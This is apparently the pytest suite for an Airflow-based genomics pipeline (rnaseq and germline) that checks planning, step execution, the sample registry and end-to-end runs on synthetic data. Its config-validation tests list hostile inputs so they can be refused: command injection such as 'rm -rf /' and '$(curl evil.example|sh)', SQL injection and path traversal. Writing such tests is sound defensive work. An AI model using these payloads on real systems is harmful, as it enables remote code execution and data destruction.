"""The rnaseq and germline pipelines: run config checks, planning (skip what is done, fan-out), the step
package (staged I/O, metrics, skip, force, tool errors), and both DAGs end to end on synthetic data, with the
science checked against the truth the data was made from.
"""

from __future__ import annotations

import copy
import gzip
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from genomics_steps import layout, synthetic
from pipeline_plan import ARRAY_CHUNK, PipelineSpec, RunConfigError, pipeline_params, plan_run, refuse_unknown_keys

ROOT = Path(__file__).resolve().parent.parent
SPEC = PipelineSpec(name="rnaseq", steps=["fastp", "salmon_quant"], reference_files=["transcriptome.fa"],
                    index_tool="salmon")
LAKE = "s3://lake-bucket/genomics"


class FakeLake:
    """Listings of a lake holding reads for ``with_reads`` and complete results for ``done``; counts calls."""

    def __init__(self, with_reads, done=(), index=True, reference=("transcriptome.fa",)):
        self.calls: list[str] = []
        self.files = {
            layout.reference_prefix(LAKE, "ref1"): list(reference) + (["index/salmon/metrics.json"] if index else []),
            layout.raw_prefix(LAKE, "P1"): [f"{s}_R{i}.fastq.gz" for s in with_reads for i in (1, 2)],
            layout.results_prefix(LAKE, "rnaseq", "1.0", "P1"): [
                f"sample={s}/{step}/{name}" for s in done for step in SPEC.steps for name in ("out.tsv", "metrics.json")
            ],
        }

    def list_files(self, prefix: str) -> list[str]:
        self.calls.append(prefix)
        return self.files.get(prefix, [])


def plan(lake: FakeLake, approved=(), backend="aws", max_map_length=1024, **params):
    config = {"project": "P1", "reference": "ref1", "pipeline_version": "1.0", "samples": ["S1"], **params}
    return plan_run(SPEC, config, lake_root=LAKE, backend=backend, list_files=lake.list_files,
                    approved_samples=lambda project: list(approved), max_map_length=max_map_length)


# --- planning: what runs, decided before any submission -----------------------------------------------
def test_samples_with_complete_outputs_are_not_run_again_decided_by_one_listing_each():
    samples = [f"S{i:04d}" for i in range(1536)]
    lake = FakeLake(samples, done=samples[:1382])  # 90% already done
    got = plan(lake, samples=samples)
    assert got["todo"] == samples[1382:] and len(got["done"]) == 1382
    assert len(lake.calls) == 3, "reference, reads and results: one listing each, whatever the sample count"
    assert got["fan_out"] == "array" and sum(map(len, got["units"])) == 154


def test_force_runs_every_sample_again():
    lake = FakeLake(["S1", "S2"], done=["S1", "S2"])
    assert plan(lake, samples=["S1", "S2"])["todo"] == []
    assert plan(lake, samples=["S1", "S2"], force=True)["todo"] == ["S1", "S2"]


def test_a_sample_missing_one_step_is_run_again():
    lake = FakeLake(["S1"], done=["S1"])
    lake.files[layout.results_prefix(LAKE, "rnaseq", "1.0", "P1")].remove("sample=S1/salmon_quant/metrics.json")
    assert plan(lake)["todo"] == ["S1"]


@pytest.mark.parametrize("count, fan_out, mode, sizes", [
    (3, "auto", "mapped", [1, 1, 1]),
    (1536, "auto", "array", [ARRAY_CHUNK, ARRAY_CHUNK, ARRAY_CHUNK, 36]),
    (3, "array", "array", [3]),
    (150, "mapped", "mapped", [1] * 150),
])
def test_fan_out_units(count, fan_out, mode, sizes):
    samples = [f"S{i}" for i in range(count)]
    got = plan(FakeLake(samples), samples=samples, fan_out=fan_out)
    assert got["fan_out"] == mode and [len(u) for u in got["units"]] == sizes
    assert [s for unit in got["units"] for s in unit] == samples


def test_mapped_fan_out_over_max_map_length_is_refused():
    samples = [f"S{i}" for i in range(30)]
    with pytest.raises(RunConfigError, match="max_map_length 20"):
        plan(FakeLake(samples), samples=samples, fan_out="mapped", max_map_length=20)


def test_all_approved_resolves_through_the_registry_and_refuses_an_empty_project():
    assert plan(FakeLake(["A", "B"]), approved=["A", "B"], samples="all approved")["samples"] == ["A", "B"]
    with pytest.raises(RunConfigError, match="no approved samples in project 'P1'"):
        plan(FakeLake([]), samples="all approved")


@pytest.mark.parametrize("change, message", [
    ({"samples": ["S1", "S9"]}, r"1 sample\(s\) have no .*\['S9'\]"),
    ({"samples": ["S1; rm -rf /"]}, "invalid sample id"),
    ({"samples": ["../S1"]}, "invalid sample id"),
    ({"samples": ["S1", "S1"]}, "duplicates"),
    ({"samples": []}, "non-empty list"),
    ({"project": "P1' OR '1'='1"}, "project"),
    ({"pipeline_version": "1.0/../../x"}, "pipeline_version"),
    ({"reference": "missing"}, "reference 'missing' lacks"),
    ({"fan_out": "sideways"}, "fan_out"),
    ({"force": "yes"}, "force must be true or false"),
    ({"input_uri": "http://example.org/reads/"}, "input_uri"),
    ({"input_uri": "s3://bucket/reads"}, "input_uri"),  # a prefix ends in '/'
    ({"input_uri": "file:///data/reads/"}, "local path"),  # jobs on AWS cannot read it
    ({"input_uri": "s3://bucket/$(id)/"}, "input_uri"),
    ({"samples": ["S1", "$(curl evil.example|sh)"]}, "invalid sample id"),
    ({"samples": ["S1", "S1' OR '1'='1"]}, "invalid sample id"),
    ({"samples": ["S1\nS2"]}, "invalid sample id"),
    ({"project": "p`reboot`"}, "project"),
    ({"project": 3}, "project"),
    ({"samples": 5}, "non-empty list"),
    ({"samples": [1, 2]}, "invalid sample id"),
    ({"samples": {"S1": True}}, "non-empty list"),
    ({"samples": [f"S{i}" for i in range(10_001)]}, "at most 10000 samples"),
])
def test_bad_run_config_is_refused_with_a_clear_message(change, message):
    with pytest.raises(RunConfigError, match=message):
        plan(FakeLake(["S1"]), **change)


def test_unknown_run_config_keys_are_refused_together_each_with_the_closest_known_key():
    known = pipeline_params()
    conf = {"samples": ["S1"], "pipline_version": "2.0", "sampels": ["S2"], "colour": "red"}
    with pytest.raises(RunConfigError) as refused:
        refuse_unknown_keys(conf, known)
    lines = str(refused.value).splitlines()[1:]
    assert lines == [" - unknown key 'colour'; the keys are " + ", ".join(sorted(known)),
                     " - unknown key 'pipline_version'; did you mean 'pipeline_version'?",
                     " - unknown key 'sampels'; did you mean 'samples'?"]
    refuse_unknown_keys({"samples": ["S1"], "force": True}, known)  # known keys pass
    refuse_unknown_keys(None, known)  # a run triggered without a config


def test_missing_index_is_planned_for_building_and_present_index_is_not():
    assert plan(FakeLake(["S1"], index=False))["index_needed"] is True
    assert plan(FakeLake(["S1"], index=True))["index_needed"] is False


# --- the DAGs ----------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def dagbag():
    from airflow.dag_processing.dagbag import DagBag

    return DagBag(dag_folder=str(ROOT / "dags"))


def test_pipeline_dags_chain_their_steps_per_sample_and_publish_their_tables(dagbag):
    expected = {
        "rnaseq": (["fastp", "salmon_quant"], "salmon_index", ["transcript_quant", "gene_quant", "qc_metrics", "job_runs"]),
        "germline": (["bwa_mem", "markdup", "call", "stats"], "bwa_index", ["variant_calls", "qc_metrics", "job_runs"]),
    }
    for dag_id, (steps, index, tables) in expected.items():
        dag = dagbag.dags[dag_id]
        group = dag.task_group_dict["per_sample"]
        assert type(group).__name__ == "MappedTaskGroup", "one unit (sample or array chunk) per mapped group"
        for upstream, downstream in zip(steps, steps[1:]):
            assert dag.get_task(f"per_sample.{upstream}").downstream_task_ids == {f"per_sample.{downstream}"}
        first = dag.get_task(f"per_sample.{steps[0]}")
        assert index in first.upstream_task_ids and first.trigger_rule == "none_failed"
        assert {t.task_id for t in dag.tasks if t.task_id.startswith("publish_")} == {f"publish_{t}" for t in tables}
        for task in dag.tasks:
            if task.task_id.startswith("per_sample.") or task.task_id == index:
                assert task.pool == "batch_submit"


@pytest.mark.parametrize("dag_id", ["rnaseq", "germline"])
@pytest.mark.parametrize("change", [
    {"project": "x; DROP TABLE qc_metrics"},
    {"samples": ["ok", "bad id"]},
    {"samples": "everything"},
    {"samples": []},
    {"fan_out": "sideways"},
    {"force": "maybe"},
    {"pipeline_version": ""},
    {"input_uri": "ftp://host/reads/"},
    {"project": 3},
    {"samples": 5},
    {"samples": [1, 2]},
    {"samples": ["S1", "S1"]},
    {"samples": [f"S{i}" for i in range(10_001)]},
    {"samples": ["S1", "$(curl evil.example|sh)"]},
    {"reference": "../other"},
])
def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
    from airflow.sdk.exceptions import ParamValidationError

    params = copy.deepcopy(dagbag.dags[dag_id].params)
    with pytest.raises(ParamValidationError):
        params.update(change)
        params.validate()


def test_the_trigger_form_accepts_a_list_or_all_approved(dagbag):
    for samples in (["S1", "S2"], "all approved"):
        params = copy.deepcopy(dagbag.dags["rnaseq"].params)
        params.update({"samples": samples, "input_uri": "s3://my-bucket/runs/fc1/"})
        assert params.validate()["samples"] == samples


# --- the step package --------------------------------------------------------------------------------
def step_env(lake_dir: Path, sample: str, pipeline: str = "rnaseq", **extra) -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT / "include"), "GENOMICS_LAKE_URI": f"file://{lake_dir}",
            "GENOMICS_PROJECT": "P1", "GENOMICS_PIPELINE": pipeline, "GENOMICS_SAMPLE": sample,
            "GENOMICS_VCPUS": "1", **extra}


def run_step(env, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", *args], env=env, capture_output=True, text=True, timeout=300)


def test_a_step_records_metrics_skips_when_done_and_force_redoes_it(tmp_path):
    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    synthetic.write_sample(f"file://{lake}", "P1", "ref1", "S1", "rnaseq")
    args = ["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0"]
    metrics = lake / "results/rnaseq/1.0/project=P1/sample=S1/fastp/metrics.json"

    first = run_step(step_env(lake, "S1", AWS_BATCH_JOB_ID="job-1"), *args)
    assert first.returncode == 0, first.stderr
    doc = json.loads(metrics.read_text())
    assert doc["job_id"] == "job-1" and doc["tools"]["fastp"] not in ("", "unknown")
    assert doc["runtime_seconds"] > 0 and doc["peak_memory_mib"] > 100  # fastp's own memory, not ours
    assert doc["image"] and doc["metrics"]["reads_before"] == 80_000
    staged = lake / "staging/qc_metrics/rnaseq/1.0/project=P1/sample_id=S1/fastp.tsv"
    assert staged.read_text().startswith("tool\tmetric\tvalue\nfastp\treads_before\t80000\n")

    again = run_step(step_env(lake, "S1", AWS_BATCH_JOB_ID="job-2"), *args)
    assert again.returncode == 0 and "nothing to do" in again.stdout
    assert json.loads(metrics.read_text())["job_id"] == "job-1", "a skipped step writes nothing"

    forced = run_step(step_env(lake, "S1", AWS_BATCH_JOB_ID="job-3"), *args, "--force", "True")
    assert forced.returncode == 0, forced.stderr
    assert json.loads(metrics.read_text())["job_id"] == "job-3"


def test_a_failing_tool_ends_the_job_with_its_exit_code_and_its_own_error_last(tmp_path):
    lake = tmp_path / "lake"
    raw = lake / "raw/P1"
    raw.mkdir(parents=True)
    for mate in ("R1", "R2"):  # not gzip at all, as after a broken upload
        (raw / f"BAD_{mate}.fastq.gz").write_bytes(b"@read1\nACGT\n+\nIIII\n")
    out = run_step(step_env(lake, "BAD"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0")
    assert out.returncode != 0
    assert "step fastp failed: fastp exited with code 255:\nERROR: igzip: Error invalid gzip header" in out.stderr
    assert not (lake / "results/rnaseq/1.0/project=P1/sample=BAD/fastp/metrics.json").exists()


def test_reads_that_fastp_cannot_parse_stop_the_step(tmp_path):
    raw = tmp_path / "lake/raw/P1"
    raw.mkdir(parents=True)
    for mate in ("R1", "R2"):  # gzip, but not FASTQ: fastp reads nothing and says nothing
        (raw / f"EMPTY_{mate}.fastq.gz").write_bytes(gzip.compress(b"no reads here\n"))
    out = run_step(step_env(tmp_path / "lake", "EMPTY"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1")
    assert out.returncode == 1 and "fastp kept no reads (it read 0)" in out.stderr


def test_a_missing_input_is_named(tmp_path):
    out = run_step(step_env(tmp_path / "lake", "NOPE"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1")
    assert out.returncode == 66 and "NOPE_R1.fastq.gz does not exist" in out.stderr


def test_the_step_package_needs_neither_airflow_nor_the_project_venv():
    """Job images carry python3, boto3 and this package only: no site-packages import at module load."""
    code = "import genomics_steps.rnaseq, genomics_steps.germline, genomics_steps.synthetic"
    out = subprocess.run([sys.executable, "-S", "-c", code], env={"PYTHONPATH": str(ROOT / "include")},
                         capture_output=True, text=True)
    assert out.returncode == 0, out.stderr


def test_steps_stage_through_s3(aws):
    """On Batch the same functions move files to and from S3."""
    import boto3

    from genomics_steps import runtime
    from genomics_steps.runtime import download, exists_uri, upload

    runtime._s3.cache_clear()  # the job process's cached client must be one made under moto
    boto3.client("s3", region_name="us-east-1").create_bucket(Bucket="steps-bucket")
    source = Path(os.environ.get("TMPDIR", "/tmp")) / "steps-s3-test.txt"
    source.write_text("reads")
    uri = "s3://steps-bucket/results/x/out.txt"
    assert not exists_uri(uri)
    upload(source, uri)
    assert exists_uri(uri)
    target = download(uri, source.with_name("steps-s3-copy.txt"))
    assert target.read_text() == "reads"


def test_job_images_install_the_package_lists_that_dev_installs_locally():
    dev = (ROOT / "dev").read_text()
    assert 'docker/*/packages.txt' in dev
    tools = {"rnaseq": {"fastp", "salmon"}, "germline": {"bwa", "samtools", "bcftools", "tabix"},
             "ingest": {"sra-toolkit", "pigz", "fastp"}, "gwas": {"plink2"}}
    steps_image = (ROOT / "docker/steps/Dockerfile").read_text()
    assert "COPY docker/${PIPELINE}/packages.txt" in steps_image and "include/genomics_steps" in steps_image
    built_from_steps = re.search(r'case "\$PIPELINE" in ([\w|]+)\)', steps_image).group(1).split("|")
    for image, packages in tools.items():
        listed = {line.split("#")[0].strip() for line in (ROOT / f"docker/{image}/packages.txt").read_text().splitlines()}
        assert packages <= listed
        if image == "gwas":  # built on regenie's image, not the shared Debian one
            dockerfile = (ROOT / "docker/gwas/Dockerfile").read_text()
            assert "COPY docker/gwas/packages.txt" in dockerfile and "include/genomics_steps" in dockerfile
        else:
            assert image in built_from_steps
    assert "FROM apache/airflow:3.3" in (ROOT / "docker/airflow/Dockerfile").read_text()
    assert "ARG REGENIE_IMAGE=ghcr.io/rgcgithub/regenie/" in (ROOT / "docker/gwas/Dockerfile").read_text()


# --- the sample registry -------------------------------------------------------------------------------
@pytest.mark.parametrize("world", ["local", "aws"])
def test_registry_upserts_are_idempotent_and_list_approved_samples(world, request):
    from hooks import backend

    settings = request.getfixturevalue(world)
    if world == "aws":
        aws_world, settings = settings, settings.settings
        aws_world.dynamodb.create_table(
            TableName="samples", BillingMode="PAY_PER_REQUEST",
            AttributeDefinitions=[{"AttributeName": n, "AttributeType": "S"} for n in ("project", "sample_id")],
            KeySchema=[{"AttributeName": "project", "KeyType": "HASH"},
                       {"AttributeName": "sample_id", "KeyType": "RANGE"}])
        from dataclasses import replace

        from tests.conftest import use_settings

        settings = use_settings(request.getfixturevalue("monkeypatch"), replace(settings, sample_registry_table="samples"))
    registry = backend.sample_registry(settings)
    for _ in range(2):  # a rerun writes the same rows again
        registry.upsert("P1", "S2", "approved", series="GSE1")
        registry.upsert("P1", "S1", "qc_passed", series="GSE1")
        registry.upsert("P2", "S3", "approved")
    registry.upsert("P1", "S1", "approved", reviewer="ana")
    assert registry.approved("P1") == ["S1", "S2"]
    assert [s["sample_id"] for s in registry.samples("P1")] == ["S1", "S2"]
    assert registry.samples("P1", "approved")[0] == {"project": "P1", "sample_id": "S1", "status": "approved",
                                                      "series": "GSE1", "reviewer": "ana"}
    with pytest.raises(ValueError, match="unknown sample status"):
        registry.upsert("P1", "S1", "great")


# --- end to end on the local backend: real tools, real Airflow, science checked --------------------------
def _no_retries(dag):
    for task in dag.tasks:  # an Airflow retry's five-minute delay would only slow a failing test down
        task.retries = 0


def _synthetic(local, kind: str, samples: list[str]) -> str:
    """The synthetic reference and ``samples`` of ``kind`` in the local lake (project e2e); returns the lake."""
    lake = local.lake_root
    synthetic.write_reference(lake, "synthetic-v1")
    for sample in samples:
        synthetic.write_sample(lake, "e2e", "synthetic-v1", sample, kind)
    return lake


def _jobs(local) -> int:
    from local_batch.control_plane import ControlPlane

    return sum(ControlPlane(local.local_home).counts().values())


@pytest.mark.e2e
def test_rnaseq_end_to_end_skip_and_force(local, dagbag):
    from hooks import backend

    samples = ["R1", "R2"]
    lake = _synthetic(local, "rnaseq", samples)
    dag = dagbag.dags["rnaseq"]
    conf = {"project": "e2e", "samples": samples, "reference": "synthetic-v1", "pipeline_version": "1.0"}

    assert dag.test(run_conf=conf).state == "success"
    submitted = _jobs(local)
    assert submitted == 1 + 2 * len(samples), "salmon index + fastp and salmon quant per sample"
    _, rows = backend.query_engine(local).fetch("SELECT sample_id, transcript_id, tpm FROM transcript_quant")
    for sample in samples:
        rho = synthetic.quantification_spearman(lake, "e2e", sample, {t: v for s, t, v in rows if s == sample})
        assert rho >= 0.9, (sample, rho)
    _, genes = backend.query_engine(local).fetch("SELECT count(DISTINCT gene_id), round(sum(tpm)) FROM gene_quant "
                                                 "WHERE sample_id = 'R1'")
    assert genes == [(40, 1_000_000.0)]

    rerun = dag.test(run_conf=conf)
    assert rerun.state == "success" and _jobs(local) == submitted, "same version: nothing submitted again"
    states = {ti.task_id: ti.state for ti in rerun.get_task_instances()}
    assert states["publish_transcript_quant"] == "success" and states["publish_job_runs"] == "skipped"

    assert dag.test(run_conf={**conf, "force": True}).state == "success"
    assert _jobs(local) == submitted + 2 * len(samples), "force: every sample again (the index is kept)"


@pytest.mark.e2e
def test_germline_end_to_end_as_array_jobs_recovers_the_planted_snvs(local, dagbag):
    from hooks import backend

    samples = ["D1", "D2"]
    lake = _synthetic(local, "germline", samples)
    run = dagbag.dags["germline"].test(run_conf={"project": "e2e", "samples": samples, "fan_out": "array",
                                                 "reference": "synthetic-v1"})
    assert run.state == "success"
    _, rows = backend.query_engine(local).fetch("SELECT sample_id, chrom, pos, ref, alt FROM variant_calls")
    for sample in samples:
        called = {(c, int(p), r, a) for s, c, p, r, a in rows if s == sample}
        assert synthetic.snv_recall(lake, "e2e", sample, called) >= 0.9
    _, qc = backend.query_engine(local).fetch("SELECT DISTINCT tool FROM qc_metrics ORDER BY 1")
    assert qc == [("bcftools",), ("samtools",)]


@pytest.mark.e2e
def test_a_failed_step_shows_the_tools_own_error_in_the_task_log(local, dagbag, capfd, caplog):
    _synthetic(local, "rnaseq", ["GOOD"])
    raw = Path(local.local_home) / "lake/raw/e2e"
    for mate in ("R1", "R2"):  # not gzip at all, as after a broken upload
        (raw / f"BAD_{mate}.fastq.gz").write_bytes(b"@read1\nACGT\n+\nIIII\n")
    dag = dagbag.dags["rnaseq"]
    _no_retries(dag)
    run = dag.test(run_conf={"project": "e2e", "samples": ["GOOD", "BAD"], "reference": "synthetic-v1"})
    assert run.state == "failed"
    states = {(ti.task_id, ti.map_index): ti.state for ti in run.get_task_instances()}
    assert states[("per_sample.salmon_quant", 0)] == "success", "the good sample goes on"
    assert states[("per_sample.fastp", 1)] == "failed"
    assert states[("publish_transcript_quant", -1)] == "upstream_failed"
    out, err = capfd.readouterr()
    log = out + err + caplog.text  # the task's log, as `airflow dags test` prints it
    assert "last lines of the log of job" in log and "ERROR: igzip: Error invalid gzip header" in log


@pytest.mark.e2e
@pytest.mark.parametrize("change, caught_by", [
    ({"samples": ["R1", "UNKNOWN"]}, "plan"),  # valid ids, but no reads in the lake
    ({"reference": "missing"}, "plan"),
    ({"samples": ["R1", "R1; rm -rf /"]}, "params"),
    ({"input_uri": "s3://bucket/reads"}, "params"),  # a prefix ends in '/'
    ({"samples": [f"S{i}" for i in range(10_001)]}, "params"),
])
def test_bad_run_config_through_airflow_submits_nothing(local, dagbag, change, caught_by):
    """However a bad run config is caught (the Params check before the run, or the plan task), no job is
    submitted."""
    from airflow.sdk.exceptions import ParamValidationError

    _synthetic(local, "rnaseq", ["R1"])
    dag = dagbag.dags["rnaseq"]
    _no_retries(dag)
    conf = {"project": "e2e", "samples": ["R1"], "reference": "synthetic-v1", **change}
    if caught_by == "params":
        with pytest.raises(ParamValidationError):
            dag.test(run_conf=conf)
    else:
        run = dag.test(run_conf=conf)
        assert run.state == "failed"
        assert {ti.task_id: ti.state for ti in run.get_task_instances()}["plan"] == "failed"
    assert _jobs(local) == 0


@pytest.mark.e2e
def test_bad_run_config_fails_the_plan_and_submits_nothing(local, dagbag):
    synthetic.write_reference(local.lake_root, "synthetic-v1")
    dag = dagbag.dags["germline"]
    _no_retries(dag)
    run = dag.test(run_conf={"project": "e2e", "samples": ["NO_READS"], "reference": "synthetic-v1"})
    assert run.state == "failed"
    assert {ti.task_id: ti.state for ti in run.get_task_instances()}["plan"] == "failed"
    assert _jobs(local) == 0


def _keeping_retries(dag_id: str):
    """A freshly parsed DAG (the module's dagbag has its retries removed by other tests) whose tasks keep
    the DAG's retries but retry at once: a refusal that Airflow retries then shows as extra tries instead of
    ten minutes of retry delay."""
    from datetime import timedelta

    from airflow.dag_processing.dagbag import DagBag

    dag = DagBag(dag_folder=str(ROOT / "dags" / f"{dag_id}.py")).dags[dag_id]
    for task in dag.tasks:
        task.retry_delay = timedelta(0)
    assert dag.get_task("plan").retries == 2
    return dag


@pytest.mark.e2e
@pytest.mark.parametrize("dag_id, change, message", [
    ("rnaseq", {"samples": ["R1", "UNKNOWN"]}, r"1 sample\(s\) have no"),
    ("germline", {"reference": "missing"}, "reference 'missing' lacks"),
    ("rnaseq", {"pipline_version": "2.0"}, "unknown key 'pipline_version'; did you mean 'pipeline_version'?"),
])
def test_a_refused_run_config_fails_plan_on_its_first_try_with_no_retry(local, dag_id, change, message, capfd,
                                                                         caplog):
    _synthetic(local, "rnaseq", ["R1"])
    run = _keeping_retries(dag_id).test(run_conf={"project": "e2e", "samples": ["R1"], "reference": "synthetic-v1",
                                                  **change})
    plan = next(ti for ti in run.get_task_instances() if ti.task_id == "plan")
    assert run.state == "failed"
    assert (plan.state, plan.try_number) == ("failed", 1), "refused once, not retried"
    assert _jobs(local) == 0
    out, err = capfd.readouterr()
    assert re.search(message, out + err + caplog.text)


@pytest.mark.e2e
@pytest.mark.parametrize("error", ["throttled", "connection"])
def test_a_transient_error_while_planning_is_retried(local, monkeypatch, error):
    from botocore.exceptions import ClientError, EndpointConnectionError

    from hooks import lake

    def failing_listing(settings, prefix):
        if error == "throttled":
            raise ClientError({"Error": {"Code": "SlowDown", "Message": "Please reduce your request rate."}},
                              "ListObjectsV2")
        raise EndpointConnectionError(endpoint_url="https://genomics-lake.s3.eu-west-1.amazonaws.com")

    _synthetic(local, "rnaseq", ["R1"])
    monkeypatch.setattr(lake, "list_files", failing_listing)
    run = _keeping_retries("rnaseq").test(run_conf={"project": "e2e", "samples": ["R1"],
                                                    "reference": "synthetic-v1"})
    plan = next(ti for ti in run.get_task_instances() if ti.task_id == "plan")
    assert (plan.state, plan.try_number) == ("failed", 3), "the first try and both retries"
    assert _jobs(local) == 0


def test_on_aws_the_end_of_a_failed_jobs_log_comes_from_cloudwatch(aws):
    import boto3

    from hooks.job_logs import BATCH_LOG_GROUP, log_tail

    logs = boto3.client("logs", region_name=aws.settings.region_name)
    logs.create_log_group(logGroupName=BATCH_LOG_GROUP)
    stream = "genomics-rnaseq/default/abc123"
    logs.create_log_stream(logGroupName=BATCH_LOG_GROUP, logStreamName=stream)
    now = int(time.time() * 1000)  # CloudWatch refuses events older than 14 days
    lines = [f"line {i}" for i in range(40)] + ["step fastp failed: fastp exited with code 255:", "ERROR: igzip"]
    logs.put_log_events(logGroupName=BATCH_LOG_GROUP, logStreamName=stream,
                        logEvents=[{"timestamp": now + i, "message": m} for i, m in enumerate(lines)])
    assert log_tail(aws.settings, stream, lines=3) == ["line 39", "step fastp failed: fastp exited with code 255:",
                                                       "ERROR: igzip"]
    assert log_tail(aws.settings, "") == []
    assert "could not read the log" in log_tail(aws.settings, "no/such/stream")[0]
